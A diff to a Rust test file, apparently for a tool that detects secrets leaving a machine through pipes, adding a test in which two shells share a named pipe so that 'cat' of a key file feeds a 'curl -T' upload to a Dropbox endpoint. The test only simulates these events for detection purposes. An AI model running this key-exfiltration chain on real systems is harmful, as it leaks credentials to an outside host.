@@ -94,6 +94,21 @@ fn held_open_by_the_shell() {
     came_by_pipe(&w.tell());
 }
 
+/// `exec 3> p` in one shell and `exec 3< p` in another; what they start has these open (`cat key >&3`, `curl .. <&3`).
+#[test]
+fn open_already_in_what_a_shell_starts() {
+    let mut w = World::new();
+    let (one, other) = (shell(&mut w), shell(&mut w));
+    w.open_fifo(0.5, &one, PIPE, OUT);
+    w.open_fifo(0.6, &other, PIPE, IN);
+    let cat = w.spawn(1.0, &one, CAT, &["cat", KEY]);
+    w.open(1.1, &cat, KEY);
+    let curl =
+        w.spawn(1.2, &other, CURL, &["curl", "-T", "-", "https://content.dropboxapi.com/2/files/upload"]);
+    w.upload(2.0, &curl, "content.dropboxapi.com", 5_000);
+    came_by_pipe(&w.tell());
+}
+
 /// The key goes nowhere: another pipe, another direction, or a writer that has nothing.
 #[test]
 fn twins_nothing_sensitive_comes_through() {
